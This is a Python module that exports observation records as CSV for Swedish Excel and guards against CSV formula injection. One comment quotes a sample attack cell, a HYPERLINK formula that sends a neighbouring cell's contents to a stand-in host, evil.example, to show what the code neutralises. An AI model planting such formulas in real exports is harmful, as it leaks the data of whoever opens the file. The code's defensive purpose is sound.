"""Serialisation of observations for other tools (CSV for Swedish Excel, ...). No Flask, no SQL."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from datetime import date, datetime

from ..clock import STOCKHOLM
from .geojson import PROPERTIES

BOM = "\ufeff"
# A text cell starting with one of these is a formula to Excel and LibreOffice (OWASP, "CSV
# injection"): `=HYPERLINK("http://evil.example/?leak="&A2,"Klicka")` in a walker's note.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise(text: str) -> str:
    """A leading single quote makes the spreadsheet show the cell as text, formula and all."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _excel_value(value) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, float):
        # Swedish Excel reads a decimal comma.
        return f"{value:.6f}".rstrip("0").rstrip(".").replace(".", ",")
    if isinstance(value, int):  # a real number stays a number, minus sign and all
        return str(value)
    return neutralise(str(value))


def excel_csv(header: list[str], rows: Iterable[Iterable]) -> Iterator[str]:
    """CSV that opens correctly in Swedish Excel: UTF-8 with BOM, ';', dates as YYYY-MM-DD.

    Yields one chunk per line so a response can stream it.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow([neutralise(name) for name in header])
    yield BOM + buffer.getvalue()
    for row in rows:
        buffer.seek(0)
        buffer.truncate()
        writer.writerow([_excel_value(value) for value in row])
        yield buffer.getvalue()


# The GeoJSON's property names, then the position (a planner joins the two on `id`).
CSV_COLUMNS = ["id", *PROPERTIES, "longitude", "latitude"]


def csv_row(row: dict, photo_url: str | None) -> list:
    """One flat export row as CSV values: the time in Stockholm, coordinates with 6 decimals."""
    values = {**row, "photo_url": photo_url}
    values["recorded_at"] = datetime.fromisoformat(row["recorded_at"]).astimezone(STOCKHOLM)
    values["longitude"], values["latitude"] = round(row["lon"], 6), round(row["lat"], 6)
    return [values.get(column) for column in CSV_COLUMNS]
